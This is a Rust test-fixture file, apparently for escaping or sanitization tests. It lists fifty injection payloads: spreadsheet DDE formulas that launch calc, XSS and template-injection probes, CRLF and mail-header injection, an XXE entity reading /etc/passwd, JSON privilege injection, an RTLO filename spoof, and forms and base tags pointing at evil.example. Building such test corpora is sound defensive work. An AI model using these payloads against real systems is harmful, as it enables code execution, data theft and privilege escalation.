//! Fifty texts that want to become something else: an element, an attribute, a script, a header, a
//! formula, a template, an object of a PDF.

/// In groups of five. The first of a group stands at the beginning of a field, where formulas and
/// schemes have to be.
pub(super) const HOSTILE: [[&str; 5]; 10] = [
    [
        "=cmd|'/c calc'!A1",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "{{7*7}}",
        "x\r\nSet-Cookie: a=b",
    ],
    [
        "javascript:alert(1)",
        "</script><script>alert(1)</script>",
        "' onmouseover='alert(1)",
        "${7*7}",
        "%0d%0aX-Evil: 1",
    ],
    ["+1+1|calc", "<svg onload=alert(1)>", "\" autofocus onfocus=\"alert(1)", "<%= 7*7 %>", "<!--"],
    [
        "-2+3+cmd|' /C calc'!D2",
        "</title></textarea></style>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "{% include x %}",
        "\r\n\r\n<html>",
    ],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "<iframe srcdoc='<b>x'>", "<![CDATA[", "#{7*7}", "-->"],
    [
        "data:text/html,<script>alert(1)</script>",
        "![x](javascript:alert(1))",
        "[x](javascript:alert(1) \"y\")",
        "]]>",
        ") /JS (app.alert(1)) /S /JavaScript >> endobj (",
    ],
    [
        "\t=1+1",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "<https://a.example/\"onclick=\"x>",
        "`<b>` <b onclick=x>",
        "</openbadges:credential><script/>",
    ],
    [
        "vbscript:msgbox(1)",
        "\",\"admin\":true,\"x\":\"",
        "\\\"}],\"type\":[\"x",
        "\u{202e}gpj.exe\u{2066}\u{2069}\u{200f}",
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
    ],
    [
        "＝1+1",
        "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;b&#x3e;",
        "<math><mi xlink:href=javascript:alert(1)>",
        "<link rel=stylesheet href=//evil.example>",
        "Bcc: victim@example.org\n\nX",
    ],
    [
        "|calc",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=0>",
        "<form action=//evil.example><input name=x>",
        "\u{2028}alert(1)\u{2029}\u{feff}<\u{200b}script>",
    ],
];
